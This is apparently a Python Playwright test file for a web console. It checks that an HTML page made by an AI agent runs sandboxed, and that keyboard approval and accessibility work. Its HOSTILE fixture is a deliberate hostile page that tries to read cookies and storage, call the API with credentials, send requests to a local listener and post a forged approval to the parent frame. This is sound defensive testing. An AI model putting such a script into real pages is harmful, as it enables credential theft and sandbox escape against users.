"""What a brain made, in the console: its page runs in a frame that reaches neither the login nor the API and loads
nothing; an approval that it asks for is granted by the keyboard. The brain is played: the gateway and the browser are
real."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from console_axe import serious_findings
from console_journey import WAIT_MS, log_in
from console_pictures import SIZES, picture
from console_stage import DIST, MISSING, NEEDS, chromium
from gateway_stage import KEYS, Stage, gateway_stage
from playwright.async_api import Browser, BrowserContext, Frame, Page, Response, expect

from vigil.contract.events.approvals import approval_outgoing
from vigil.contract.events.tasks import TaskNews, news_outgoing
from vigil.contract.subject_tokens import DelegationEvent
from vigil.core.approval import Approval, ApprovalState
from vigil.core.task import TaskState
from vigil.runtime.session.lifecycle import now_us
from vigil.testing.delegated import DIGEST, QUESTION, answer, delegate, request_of, task_id
from vigil.testing.eventually import eventually
from vigil.testing.images import jpeg
from vigil_client.options import NewSession, NewSource

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300), pytest.mark.skipif(MISSING, reason=NEEDS)]

# Everything that a page can try by itself; what was read or sent is reported, and so is each refusal.
HOSTILE = """<!doctype html>
<html lang="en"><head><title>A screen</title>
<link rel="preconnect" href="http://127.0.0.1:{tcp}">
<link rel="dns-prefetch" href="http://127.0.0.1:{tcp}">
<link rel="prefetch" href="http://127.0.0.1:{tcp}/prefetch">
<link rel="stylesheet" href="http://127.0.0.1:{tcp}/style.css">
<style>
  @import url("http://127.0.0.1:{tcp}/import.css");
  body {{ background: url("http://127.0.0.1:{tcp}/b.png") }}
</style>
</head><body><h1>The screen</h1><button>Press</button>
<img src="http://127.0.0.1:{tcp}/image.png" alt="">
<iframe src="http://127.0.0.1:{tcp}/frame" title="a"></iframe>
<object data="http://127.0.0.1:{tcp}/object"></object>
<script src="http://127.0.0.1:{tcp}/script.js"></script>
<script>
  window.report = {{}};
  const away = "http://127.0.0.1:{tcp}/away";
  const attempt = async (name, act) => {{
    try {{
      window.report[name] = String(await act());
    }} catch (error) {{
      window.report[name] = "refused: " + error.name;
    }}
  }};
  const opened = (thing, events) => new Promise((resolve, reject) => {{
    events.forEach((event) => thing.addEventListener(event, () => resolve(event)));
    thing.addEventListener("error", () => reject(new Error("error")));
  }});
  window.tried = Promise.all([
    attempt("cookie", () => document.cookie),
    attempt("localStorage", () => localStorage.length),
    attempt("sessionStorage", () => sessionStorage.length),
    attempt("indexedDB", () => opened(indexedDB.open("x"), ["success"])),
    attempt("parent", () => parent.document.title),
    attempt("top", () => top.location.href),
    attempt("opener", () => parent.localStorage.length),
    attempt("api", () => fetch("/v1/sessions", {{ credentials: "include" }}).then((answer) => answer.status)),
    attempt("change", () => fetch("/v1/sessions", {{ method: "POST", credentials: "include", body: "{{}}" }})),
    attempt("fetch", () => fetch(away, {{ mode: "no-cors" }})),
    attempt("xhr", () => {{ const asked = new XMLHttpRequest(); asked.open("GET", away, false); asked.send(); }}),
    attempt("socket", () => opened(new WebSocket("ws://127.0.0.1:{tcp}/"), ["open"])),
    attempt("events", () => opened(new EventSource(away), ["open"])),
    attempt("worker", () => opened(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), ["message"])),
    attempt("import", () => import(away)),
    attempt("window", () => window.open(away).location),
    attempt("service", () => navigator.serviceWorker.register("/x.js")),
    attempt("camera", () => navigator.mediaDevices.getUserMedia({{ video: true }})),
  ]);
  navigator.sendBeacon(away, "x");
  new Image().src = away;
  try {{ alert("pwned"); }} catch (error) {{ window.report.alert = error.name; }}
  const form = document.createElement("form");
  form.action = away; form.target = "_top"; document.body.append(form);
  try {{ form.submit(); }} catch (error) {{ window.report.form = error.name; }}
  try {{ top.location = away; }} catch (error) {{ window.report.navigation = error.name; }}
  try {{
    const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{udp}" }}] }});
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }} catch (error) {{ window.report.peer = error.name; }}
  parent.postMessage({{ grant: true }}, "*");
</script></body></html>
"""


@dataclass(slots=True)
class Away(asyncio.DatagramProtocol):
    """A place elsewhere that writes down what reaches it. A bare connection (`preconnect`) and STUN carry no request:
    no policy of a page keeps Chromium from either, which SECURITY.md says."""

    tcp: int = 0
    udp: int = 0
    connections: list[bytes] = field(default_factory=list)

    @property
    def requests(self) -> list[bytes]:
        """What was asked or sent over all connections."""
        return [request for request in self.connections if request]

    def datagram_received(self, data: bytes, addr: Any) -> None:
        """A datagram came."""

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """A connection came, with or without a request."""
        self.connections.append(await reader.read(4_096))
        writer.close()


@pytest.fixture
async def away() -> AsyncIterator[Away]:
    """It listens on free ports of this machine."""
    place = Away()
    server = await asyncio.start_server(place.connected, "127.0.0.1", 0)
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: place, ("127.0.0.1", 0))
    place.tcp, place.udp = server.sockets[0].getsockname()[1], transport.get_extra_info("sockname")[1]
    try:
        yield place
    finally:
        transport.close()
        server.close()


@pytest.fixture
async def stage(tmp_path: Path) -> AsyncIterator[Stage]:
    """A gateway that serves the console, and its stores."""
    async with gateway_stage(tmp_path, more={"CONSOLE_DIR": DIST}) as running:
        yield running


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as running:
        yield running


@pytest.fixture
async def context(browser: Browser, stage: Stage) -> BrowserContext:
    url = stage.url.replace("127.0.0.1", "localhost")
    return await browser.new_context(base_url=url, locale="en-GB", viewport={"width": 1440, "height": 900})


@pytest.fixture
async def page(context: BrowserContext) -> Page:
    opened = await context.new_page()
    await log_in(opened, key=KEYS["demo"])
    return opened


@pytest.fixture
async def session(stage: Stage) -> str:
    """A session whose model has delegated a question."""
    async with stage.client() as client:
        created = await client.create_session(NewSession(NewSource("rtsp://camera.local/1", "lobby")))
    await delegate(stage.store, created.id)
    return created.id


async def tell(stage: Stage, session: str, news: TaskNews) -> None:
    """What a brain tells of the task."""
    await stage.bus.publish_stored(news_outgoing(request_of(session), news))


async def solve(stage: Stage, session: str, *files: tuple[str, str, bytes]) -> None:
    """What a brain does: it begins, and ends with an answer and these files."""
    await tell(stage, session, TaskNews(DelegationEvent.STARTED, TaskState.RUNNING, now_us(), "big", "Looking."))
    made = await answer(stage.tasks, stage.bus, session, *files)
    await tell(stage, session, TaskNews(DelegationEvent.READY, TaskState.READY, now_us(), "big", DIGEST, made))


async def test_a_page_that_a_brain_made_reaches_neither_login_nor_api_and_loads_nothing(
    stage: Stage, page: Page, session: str, away: Away
) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await page.goto(f"/sessions/{session}")
    log = page.get_by_role("log")
    await expect(log.get_by_text("Waits for a brain")).to_be_visible(timeout=WAIT_MS)
    hostile = HOSTILE.format(tcp=away.tcp, udp=away.udp).encode()
    await solve(stage, session, ("screen.html", "text/html", hostile), ("seen.jpg", "image/jpeg", jpeg((9, 9, 9))))
    await expect(log.get_by_text("Answer found")).to_be_visible(timeout=WAIT_MS)
    await expect(log.get_by_text(DIGEST)).to_be_visible()
    assert len(page.frames) == 1, "nothing of it runs before somebody looks"

    await log.get_by_role("button", name="Show").first.click()
    frame = await _frame(page, "The screen")
    report: dict[str, str] = await frame.evaluate("() => window.tried.then(() => window.report)")
    assert {name: words for name, words in report.items() if "refused" not in words} == _told_by_name(report)
    assert await frame.evaluate("() => origin") == "null"
    assert (away.requests, dialogs) == ([], [])
    assert page.url.endswith(f"/sessions/{session}")

    await _control(away)
    await _leads_its_frame_nowhere(page, frame, away)
    await expect(log.get_by_text(DIGEST)).to_be_visible()
    assert await page.evaluate("() => window.pwned") is None


def _told_by_name(report: dict[str, str]) -> dict[str, str]:
    """What is refused without a promise: by the name of the error alone."""
    return {name: report[name] for name in ("form", "navigation", "peer", "alert") if name in report}


async def _frame(page: Page, heading: str) -> Frame:
    """The frame of the brain's page, once it is there."""
    await expect(page.frame_locator("iframe").get_by_role("heading", name=heading)).to_be_visible(timeout=WAIT_MS)
    return next(frame for frame in page.frames if frame.parent_frame is page.main_frame)


async def _control(away: Away) -> None:
    """The place elsewhere does hear what is asked of it."""
    _, writer = await asyncio.open_connection("127.0.0.1", away.tcp)
    writer.write(b"GET / HTTP/1.0\r\n\r\n")
    await eventually(lambda: bool(away.requests), what="a request is heard")
    writer.close()
    away.connections.clear()


async def _leads_its_frame_nowhere(page: Page, frame: Frame, away: Away) -> None:
    """From its frame to the API it brings no login; to another site it is not let go."""
    answers: list[Response] = []
    page.on("response", lambda response: answers.append(response) if response.frame == frame else None)
    await frame.evaluate("() => { location.href = '/v1/sessions'; }")
    await eventually(lambda: bool(answers), what="the API answers the frame")
    assert [answer_.status for answer_ in answers] == [401]
    await frame.wait_for_url("**/v1/sessions", timeout=WAIT_MS)  # it is there only some time after its answer
    await frame.evaluate("(away) => { location.href = away; }", f"http://127.0.0.1:{away.tcp}/?kept")
    await eventually(lambda: "chrome-error" in frame.url, what="the frame is stopped")
    assert away.requests == []


@pytest.mark.parametrize("colour", ["light", "dark"])
@pytest.mark.parametrize("language", ["en-GB", "zh-CN"])
async def test_an_approval_is_granted_by_the_keyboard(
    stage: Stage, browser: Browser, session: str, colour: Any, language: str
) -> None:
    url = stage.url.replace("127.0.0.1", "localhost")
    context = await browser.new_context(base_url=url, locale="en-GB", color_scheme=colour, reduced_motion="reduce")
    page = await context.new_page()
    await log_in(page, key=KEYS["demo"])
    await page.evaluate("(language) => localStorage.setItem('vigil.language', language)", language[:2])
    await page.goto(f"/sessions/{session}")
    await solve(stage, session, ("screen.html", "text/html", b"<!doctype html><title>s</title><h1>Hello</h1>"))
    asked = await stage.approvals.request(
        Approval("", "demo", session, task_id(session), "open_ticket", '{"to":"\u202elobby"}', "Opens <b>a ticket</b>.")
    )
    await stage.bus.publish_stored(approval_outgoing(asked, now_us()))
    card = page.get_by_role("log").get_by_role("article", name="open_ticket")
    await expect(card).to_be_visible(timeout=WAIT_MS)
    await expect(card.get_by_text("Opens <b>a ticket</b>.")).to_be_visible()
    await expect(card.get_by_text("\\u202elobby")).to_be_visible()
    await expect(page.get_by_role("log").get_by_text(QUESTION)).to_be_visible()
    await page.get_by_role("log").locator("li button").first.click()
    await expect(page.frame_locator("iframe").get_by_role("heading", name="Hello")).to_be_visible(timeout=WAIT_MS)
    assert await serious_findings(page) == []

    await page.goto("/approvals")
    await expect(page.get_by_role("article", name="open_ticket")).to_be_visible(timeout=WAIT_MS)
    assert await serious_findings(page) == []
    await page.get_by_role("main").focus()
    for _ in range(20):
        await page.keyboard.press("Tab")
        if await page.evaluate("() => document.activeElement.matches('article button')"):
            break
    await page.keyboard.press("Enter")

    async def granted() -> bool:
        found = await stage.approvals.get(asked.key, asked.id)
        return found is not None and found.state is ApprovalState.GRANTED

    await eventually(granted, what="the approval is granted")
    await expect(page.locator("article button")).to_have_count(0, timeout=WAIT_MS)
    await context.close()


async def test_the_approvals_in_both_colours_and_sizes(stage: Stage, page: Page, session: str) -> None:
    asks = (
        ("tickets_open", '{"room": "lobby", "title": "Fire"}', "Opens a ticket for the night shift."),
        ("door_unlock", '{"door": "north"}', "Unlocks the door for the fire brigade."),
        ("lamp_switch", '{"lamp": "stairs", "on": true}', "Switches the lamp of the stairs on."),
    )
    for tool, arguments, summary in asks:
        asked = await stage.approvals.request(Approval("", "demo", session, task_id(session), tool, arguments, summary))
        await stage.bus.publish_stored(approval_outgoing(asked, now_us()))
    await page.goto("/approvals")
    lamp = page.get_by_role("article", name="lamp_switch")
    await lamp.get_by_role("button", name="Refuse").click(timeout=WAIT_MS)
    await expect(lamp.get_by_role("button")).to_have_count(0, timeout=WAIT_MS)
    await expect(page.get_by_role("article", name="door_unlock").get_by_role("button").first).to_be_visible()
    problems: list[str] = []
    for colour in ("dark", "light"):
        for width, height in SIZES:
            await page.set_viewport_size({"width": width, "height": height})
            await page.emulate_media(color_scheme=colour, reduced_motion="reduce")
            problems += await picture(page, f"approvals-{colour}-{width}")
    assert problems == []
